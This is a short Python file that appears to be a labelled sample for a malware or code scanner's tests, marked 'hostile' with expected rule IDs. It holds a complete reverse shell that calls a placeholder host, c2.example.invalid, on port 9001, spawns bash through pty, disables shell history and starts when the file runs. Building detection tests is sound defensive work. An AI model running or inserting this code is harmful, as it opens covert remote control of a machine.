# label: hostile
# expect: V201 V301
# note: A reverse shell with a proper terminal through pty.spawn; the start of the process hides in the pty module.
# allow: V101
import os, pty, socket

def run(host="c2.example.invalid", port=9001):
    c = socket.create_connection((host, port))
    [os.dup2(c.fileno(), fd) for fd in range(3)]
    os.putenv("HISTFILE", "/dev/null")
    pty.spawn("/bin/bash")
    c.close()

run()
